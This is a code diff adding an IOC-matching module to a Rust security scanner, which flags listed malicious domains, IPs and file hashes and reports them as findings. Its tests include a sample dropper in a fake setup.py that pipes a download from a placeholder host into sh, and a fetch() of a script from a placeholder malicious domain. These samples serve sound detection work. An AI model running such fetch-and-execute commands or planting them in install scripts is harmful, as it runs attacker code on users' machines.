@@ -0,0 +1,398 @@
+//! Threat-intel IOC matching
+//!
+//! Flags known-malicious infrastructure even when the code around it looks
+//! benign: domains and IP addresses from an IOC list anywhere in a file, and
+//! files whose SHA-256 is on the list. Lists are plain text with one
+//! indicator per line, so most public feeds can be used as downloaded:
+//!
+//! ```text
+//! # C2 infrastructure
+//! evil-updates.example            # subdomains match too
+//! 203.0.113.7
+//! https://paste.example/raw/abc   # URLs contribute their host
+//! 0.0.0.0 tracker.example         # hosts-file blocklists
+//! e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855
+//! ```
+//!
+//! Columns after the first comma or whitespace are ignored. MD5 and SHA-1
+//! entries are skipped; only SHA-256 file hashes are compared. [`IocSet::find`]
+//! works on any text, so traffic inspection can reuse the same lists.
+
+use anyhow::{Context, Result};
+use once_cell::sync::Lazy;
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use sha2::{Digest, Sha256};
+use std::collections::{HashMap, HashSet};
+use std::net::IpAddr;
+use std::path::PathBuf;
+
+use crate::models::vulnerability::{Location, Severity, Vulnerability, VulnerabilityType};
+
+/// Hostnames and dotted IPv4 addresses
+static HOST_CANDIDATE: Lazy<Regex> = Lazy::new(|| {
+    Regex::new(r#"(?i)\b[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?)+\b"#)
+        .unwrap()
+});
+
+/// What kind of indicator matched
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum IocKind {
+    Domain,
+    Ip,
+    FileHash,
+}
+
+impl IocKind {
+    fn rule(&self) -> &'static str {
+        match self {
+            IocKind::Domain => "known-malicious-domain",
+            IocKind::Ip => "known-malicious-ip",
+            IocKind::FileHash => "known-malicious-file",
+        }
+    }
+
+    fn label(&self) -> &'static str {
+        match self {
+            IocKind::Domain => "Domain",
+            IocKind::Ip => "IP Address",
+            IocKind::FileHash => "File",
+        }
+    }
+}
+
+/// An indicator found in some text
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct IocMatch {
+    pub kind: IocKind,
+    /// The list entry that matched (the parent domain for subdomains)
+    pub indicator: String,
+    /// Byte offset of the match in the searched text
+    pub offset: usize,
+}
+
+/// Indicators loaded from IOC list files
+///
+/// (De)serializes as the list of file paths, like [`super::yara::YaraRules`],
+/// so it can live in `ScanConfig` while the lists are parsed only once.
+#[derive(Clone, Default, Serialize, Deserialize)]
+#[serde(try_from = "Vec<PathBuf>", into = "Vec<PathBuf>")]
+pub struct IocSet {
+    sources: Vec<PathBuf>,
+    domains: HashSet<String>,
+    ips: HashSet<String>,
+    hashes: HashSet<String>,
+}
+
+impl IocSet {
+    /// Load indicators from list files
+    pub fn load(paths: &[PathBuf]) -> Result<Self> {
+        Self::try_from(paths.to_vec())
+    }
+
+    /// Parse indicators from the text of one list
+    pub fn from_list(text: &str) -> Self {
+        let mut set = Self::default();
+        set.add_list(text);
+        set
+    }
+
+    /// Paths the indicators were loaded from
+    pub fn sources(&self) -> &[PathBuf] {
+        &self.sources
+    }
+
+    /// Number of indicators
+    pub fn len(&self) -> usize {
+        self.domains.len() + self.ips.len() + self.hashes.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.len() == 0
+    }
+
+    fn add_list(&mut self, text: &str) {
+        for line in text.lines() {
+            match parse_indicator(line) {
+                Some((IocKind::Domain, domain)) => self.domains.insert(domain),
+                Some((IocKind::Ip, ip)) => self.ips.insert(ip),
+                Some((IocKind::FileHash, hash)) => self.hashes.insert(hash),
+                None => false,
+            };
+        }
+    }
+
+    /// Domains and IP addresses from the set that appear in `text`
+    pub fn find(&self, text: &str) -> Vec<IocMatch> {
+        let mut matches = Vec::new();
+        for candidate in HOST_CANDIDATE.find_iter(text) {
+            let host = candidate.as_str().to_ascii_lowercase();
+            if self.ips.contains(&host) {
+                matches.push(IocMatch {
+                    kind: IocKind::Ip,
+                    indicator: host,
+                    offset: candidate.start(),
+                });
+                continue;
+            }
+            // `cdn.evil.example` is caught by an `evil.example` entry
+            let listed = std::iter::once(host.as_str())
+                .chain(host.match_indices('.').map(|(i, _)| &host[i + 1..]))
+                .take_while(|suffix| suffix.contains('.'))
+                .find(|suffix| self.domains.contains(*suffix));
+            if let Some(domain) = listed {
+                matches.push(IocMatch {
+                    kind: IocKind::Domain,
+                    indicator: domain.to_string(),
+                    offset: candidate.start(),
+                });
+            }
+        }
+
+        let lower = text.to_ascii_lowercase();
+        for ip in self.ips.iter().filter(|ip| ip.contains(':')) {
+            matches.extend(
+                lower
+                    .match_indices(ip.as_str())
+                    .map(|(offset, _)| IocMatch {
+                        kind: IocKind::Ip,
+                        indicator: ip.clone(),
+                        offset,
+                    }),
+            );
+        }
+
+        matches.sort_by_key(|m| m.offset);
+        matches
+    }
+
+    /// Whether the SHA-256 of `content` is a listed file hash
+    pub fn matches_file(&self, content: &[u8]) -> bool {
+        if self.hashes.is_empty() {
+            return false;
+        }
+        let digest: String = Sha256::digest(content)
+            .iter()
+            .map(|b| format!("{:02x}", b))
+            .collect();
+        self.hashes.contains(&digest)
+    }
+}
+
+impl TryFrom<Vec<PathBuf>> for IocSet {
+    type Error = anyhow::Error;
+
+    fn try_from(sources: Vec<PathBuf>) -> Result<Self> {
+        let mut set = Self::default();
+        for path in &sources {
+            let text = std::fs::read_to_string(path)
+                .with_context(|| format!("Failed to read IOC list {}", path.display()))?;
+            set.add_list(&text);
+        }
+        set.sources = sources;
+        Ok(set)
+    }
+}
+
+impl From<IocSet> for Vec<PathBuf> {
+    fn from(set: IocSet) -> Self {
+        set.sources
+    }
+}
+
+impl PartialEq for IocSet {
+    fn eq(&self, other: &Self) -> bool {
+        self.sources == other.sources
+    }
+}
+
+impl std::fmt::Debug for IocSet {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("IocSet")
+            .field("sources", &self.sources)
+            .field("indicators", &self.len())
+            .finish()
+    }
+}
+
+/// The indicator on one list line, if it holds one we can match
+fn parse_indicator(line: &str) -> Option<(IocKind, String)> {
+    let line = line.split('#').next().unwrap_or_default();
+    let mut fields = line
+        .split(|c: char| c == ',' || c.is_whitespace())
+        .map(|f| f.trim_matches(|c| c == '"' || c == '\''))
+        .filter(|f| !f.is_empty());
+    let mut field = fields.next()?;
+    // Hosts-file blocklists: `0.0.0.0 tracker.example`
+    if matches!(field, "0.0.0.0" | "127.0.0.1") {
+        field = fields.next()?;
+    }
+
+    if field.contains("://") {
+        let url = url::Url::parse(field).ok()?;
+        let host = url.host_str()?.trim_matches(|c| c == '[' || c == ']');
+        return parse_indicator(host);
+    }
+    if let Ok(ip) = field.parse::<IpAddr>() {
+        return Some((IocKind::Ip, ip.to_string()));
+    }
+    if field.chars().all(|c| c.is_ascii_hexdigit()) {
+        // SHA-256 only; MD5 and SHA-1 can't be compared without more hashing
+        return (field.len() == 64).then(|| (IocKind::FileHash, field.to_ascii_lowercase()));
+    }
+
+    let domain = field
+        .trim_start_matches("*.")
+        .trim_end_matches('.')
+        .to_ascii_lowercase();
+    let valid = domain.contains('.')
+        && domain
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '.');
+    valid.then_some((IocKind::Domain, domain))
+}
+
+/// Report listed indicators in one file
+pub fn detect(content: &str, file_path: &str, iocs: &IocSet) -> Result<Vec<Vulnerability>> {
+    let mut vulnerabilities = Vec::new();
+
+    if iocs.matches_file(content.as_bytes()) {
+        vulnerabilities.push(finding(
+            vulnerabilities.len() + 1,
+            IocKind::FileHash,
+            "file SHA-256",
+            Location::new(file_path),
+            None,
+        ));
+    }
+
+    for (line_num, line) in content.lines().enumerate() {
+        let mut seen = HashSet::new();
+        for m in iocs.find(line) {
+            if !seen.insert(m.indicator.clone()) {
+                continue;
+            }
+            let location = Location::new(file_path)
+                .with_line(line_num + 1)
+                .with_column(m.offset + 1);
+            vulnerabilities.push(finding(
+                vulnerabilities.len() + 1,
+                m.kind,
+                &m.indicator,
+                location,
+                Some(line),
+            ));
+        }
+    }
+
+    Ok(vulnerabilities)
+}
+
+fn finding(
+    id: usize,
+    kind: IocKind,
+    indicator: &str,
+    location: Location,
+    snippet: Option<&str>,
+) -> Vulnerability {
+    let mut evidence = HashMap::new();
+    evidence.insert("indicator".to_string(), serde_json::json!(indicator));
+    evidence.insert("cwe".to_string(), serde_json::json!("CWE-506"));
+
+    let (severity, title) = match kind {
+        IocKind::FileHash => (Severity::Critical, "Known Malicious File".to_string()),
+        _ => (
+            Severity::High,
+            format!("Known Malicious {}: {}", kind.label(), indicator),
+        ),
+    };
+    let mut vuln = Vulnerability::new(
+        format!("IOC-{:03}", id),
+        VulnerabilityType::MaliciousPayload,
+        severity,
+        title,
+        "Matches an indicator of compromise from a configured threat-intel list",
+    )
+    .with_rule_id(kind.rule())
+    .with_location(location)
+    .with_impact(
+        "Known-malicious infrastructure or files point to a compromised or intentionally \
+         malicious server, regardless of how harmless the surrounding code looks",
+    )
+    .with_remediation(
+        "Do not run this server. Check where the indicator came from (dependency, contributor, \
+         build step) and remove it; if it is a false positive, drop it from the IOC list",
+    )
+    .with_confidence(0.9)
+    .with_evidence(evidence);
+    if let Some(snippet) = snippet {
+        vuln = vuln.with_code_snippet(snippet.to_string());
+    }
+    vuln
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const LIST: &str = "\
+# C2 infrastructure
+evil-updates.example  # subdomains match too
+203.0.113.7,c2,2024-01-01
+https://paste.example/raw/abc
+0.0.0.0 tracker.example
+2001:db8::dead
+d41d8cd98f00b204e9800998ecf8427e
+not a domain
+";
+
+    #[test]
+    fn test_parse_list() {
+        let set = IocSet::from_list(LIST);
+        assert_eq!(set.domains.len(), 3);
+        assert!(set.domains.contains("paste.example"));
+        assert!(set.ips.contains("203.0.113.7"));
+        assert!(set.ips.contains("2001:db8::dead"));
+        // MD5 is skipped
+        assert!(set.hashes.is_empty());
+    }
+
+    #[test]
+    fn test_find_indicators() {
+        let set = IocSet::from_list(LIST);
+        let matches =
+            set.find("fetch('https://cdn.evil-updates.example/x.js'); ip = '203.0.113.7'");
+        let found: Vec<_> = matches
+            .iter()
+            .map(|m| (m.kind, m.indicator.as_str()))
+            .collect();
+        assert_eq!(
+            found,
+            vec![
+                (IocKind::Domain, "evil-updates.example"),
+                (IocKind::Ip, "203.0.113.7")
+            ]
+        );
+        assert_eq!(matches[0].offset, 15);
+        assert!(set
+            .find("requests.get('https://not-evil-updates.example.org')")
+            .is_empty());
+    }
+
+    #[test]
+    fn test_detect_in_file() {
+        let dropper = "import os\nos.system('curl http://tracker.example/p | sh')\n";
+        let digest: String = Sha256::digest(dropper.as_bytes())
+            .iter()
+            .map(|b| format!("{:02x}", b))
+            .collect();
+        let set = IocSet::from_list(&format!("{}\n{}", LIST, digest));
+
+        let vulns = detect(dropper, "setup.py", &set).unwrap();
+        assert_eq!(vulns.len(), 2);
+        assert_eq!(vulns[0].rule_id.as_deref(), Some("known-malicious-file"));
+        assert_eq!(vulns[0].severity, Severity::Critical);
+        assert_eq!(vulns[1].rule_id.as_deref(), Some("known-malicious-domain"));
+        assert_eq!(vulns[1].location.as_ref().unwrap().line, Some(2));
+    }
+}